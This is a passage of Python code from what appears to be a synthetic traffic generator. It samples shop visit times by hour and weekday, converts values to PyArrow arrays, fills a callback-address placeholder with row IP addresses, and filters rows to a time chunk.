        self, rng: np.random.Generator, chunk: Chunk, peak_per_second: float
    ) -> np.ndarray:
        """Visit start times in the chunk, following the shop's day in local time."""
        n = rng.poisson(peak_per_second * (chunk.end - chunk.start) / 1000)
        ms = np.sort(rng.integers(chunk.start, chunk.end, n))
        hour = (ms // MS_HOUR + self.world.utc_offset_hours) % 24
        weekday = ((ms // MS_DAY) + 3) % 7 < 5  # 1970-01-01 was a Thursday
        busy = _HOURLY[hour] * np.where(weekday, 1.0, 1.15)
        return ms[rng.random(n) < busy / (_HOURLY.max() * 1.15)]


def _as_array(value, n: int, type_: pa.DataType) -> pa.Array:
    if value is None:
        return pa.nulls(n, type_)
    if isinstance(value, pa.Array):
        return value.cast(type_)
    if isinstance(value, np.ndarray):
        return pa.array(value, type_)
    return pa.repeat(pa.scalar(value, type_), n)


def _fill_ip(text: pa.Array, addresses: pa.Array) -> pa.Array:
    """``text`` with its callback-address placeholder replaced by the row's address."""
    has = pc.fill_null(pc.match_substring(text, _IP), False)
    head = pc.replace_substring_regex(text, "@IP@.*$", "")
    tail = pc.replace_substring_regex(text, "^.*@IP@", "")
    return pc.if_else(has, pc.binary_join_element_wise(head, addresses, tail, ""), text)


def _between(table: pa.Table, chunk: Chunk) -> pa.Array:
    ms = pc.cast(table["time"], pa.int64())
    return pc.and_(pc.greater_equal(ms, chunk.start), pc.less(ms, chunk.end))
